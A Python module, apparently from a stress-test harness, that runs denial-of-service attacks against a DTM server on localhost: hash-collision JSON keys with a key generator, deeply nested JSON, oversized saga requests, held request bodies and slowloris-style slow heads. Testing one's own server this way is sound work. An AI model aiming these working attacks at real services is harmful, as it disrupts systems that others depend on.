"""Attacks on the HTTP port."""

import collections
import http.client
import itertools
import json
import re
import socket
import time

from .attack import Attack, summary

SUBMIT_PATH = "/api/dtmsvr/submit"
FNV_PRIME, FNV_BASIS = 0x100000001B3, 0xCBF29CE484222325
LETTERS = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


class Posts(Attack):
    """Sends the same body again and again over one connection."""

    path = SUBMIT_PATH

    def body(self, number):
        raise NotImplementedError

    def begin(self):
        ends = collections.Counter()
        number = 0
        while self.goes_on():
            number += 1
            ends[self.post(self.body(number))] += 1
        return summary(ends)

    def post(self, body):
        connection = http.client.HTTPConnection("127.0.0.1", self.server.http_port, timeout=120)
        try:
            connection.request("POST", self.path, body)
            answer = connection.getresponse()
            answer.read()
            return str(answer.status)
        except (OSError, http.client.HTTPException) as error:
            return type(error).__name__
        finally:
            connection.close()


class CollidingKeys(Posts):
    name = "colliding_keys"
    does = "JSON objects of 65,536 members whose keys fall into one bucket of a hash table"
    path = "/api/dtmsvr/abort"
    bits = 16
    salt = 0x10000  # the salt that an old build took from the address of a table

    def __init__(self, server, seconds):
        super().__init__(server, seconds)
        keys = colliding_keys(self.bits, self.salt, 1 << self.bits)
        self._body = b"{" + b",".join(b'"' + key + b'":0' for key in keys) + b"}"
        self._end = time.monotonic() + seconds  # only now, because finding the keys took a while

    def body(self, number):
        return self._body


def colliding_keys(bits, salt, count):
    """Keys of seven letters whose FNV-1a hashes end in zero bits. Half of each key is found
    forwards from the salted start, the other half backwards from the end."""
    mask = (1 << bits) - 1
    prime = FNV_PRIME & mask
    inverse = pow(prime, -1, 1 << bits)
    tails = {}
    for tail in itertools.product(LETTERS, repeat=3):
        state = 0
        for letter in reversed(tail):
            state = (state * inverse & mask) ^ letter
        tails.setdefault(state, bytes(tail))
    found = []
    for head in itertools.product(LETTERS, repeat=4):
        state = (FNV_BASIS + salt) & mask
        for letter in head:
            state = ((state ^ letter) * prime) & mask
        if state in tails:
            found.append(bytes(head) + tails[state])
            if len(found) == count:
                break
    return found


class DeepNesting(Posts):
    name = "deep_nesting"
    does = "JSON lists in lists, a million deep"
    path = "/api/dtmsvr/abort"

    def body(self, number):
        return b'{"gid":"deep","x":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"


class ManyBranchHeaders(Posts):
    name = "branch_headers"
    does = "sagas with 60,000 branch_headers, tried every second"

    def body(self, number):
        headers = {f"x{index}": "" for index in range(60_000)}
        return json.dumps({
            "gid": f"headers-{number}", "trans_type": "saga", "retry_interval": 1,
            "steps": [{"action": "http://127.0.0.1:1/x", "compensate": ""}], "payloads": ["{}"],
            "branch_headers": headers})


class ManySteps(Posts):
    name = "many_steps"
    does = "sagas of 100,000 steps without a URL"

    def body(self, number):
        return json.dumps({
            "gid": f"steps-{number}", "trans_type": "saga", "payloads": [""] * 100_000,
            "steps": [{"action": "", "compensate": ""}] * 100_000})


class Unfinished(Attack):
    """Requests that stop before their end, as many at one time as the server accepts."""

    connections = 600

    def head_and_body(self):
        raise NotImplementedError

    def dribble(self, connections):
        """Bytes that are sent now and then on connections that are still open."""

    def begin(self):
        ends = collections.Counter()
        octets = self.head_and_body()
        open_ones = []
        for _ in range(self.connections):
            if not self.goes_on():
                break
            try:
                peer = socket.create_connection(("127.0.0.1", self.server.http_port), 5)
                open_ones.append(peer)
                peer.sendall(octets)
            except OSError as error:
                ends[type(error).__name__] += 1
        while self.goes_on() and open_ones:
            self.dribble(open_ones)
            open_ones = [peer for peer in open_ones if not _has_ended(peer, ends)]
            time.sleep(0.2)
        for peer in open_ones:
            peer.close()
        return summary(ends)


def _has_ended(peer, ends):
    peer.setblocking(False)
    try:
        answer = peer.recv(4096)
    except BlockingIOError:
        return False
    except OSError:
        answer = b""
    status = re.match(rb"HTTP/1\.1 (\d+)", answer)
    ends[status.group(1).decode() if status else "closed"] += 1
    peer.close()
    return True


class HeldBodies(Unfinished):
    name = "held_bodies"
    does = "600 bodies of 4 MiB, each without its last octet"

    def head_and_body(self):
        size = 4 << 20
        head = f"POST {SUBMIT_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n"
        return head.encode() + b"x" * (size - 1)


class SlowHeads(Unfinished):
    name = "slow_heads"
    does = "2,000 heads of requests, an octet from time to time"
    connections = 2000

    def head_and_body(self):
        return b"POST / HTTP/1.1\r\nHost: x\r\nX: "

    def dribble(self, connections):
        for peer in connections:
            try:
                peer.send(b"x")
            except OSError:
                pass


ATTACKS = [CollidingKeys, DeepNesting, ManyBranchHeaders, ManySteps, HeldBodies, SlowHeads]
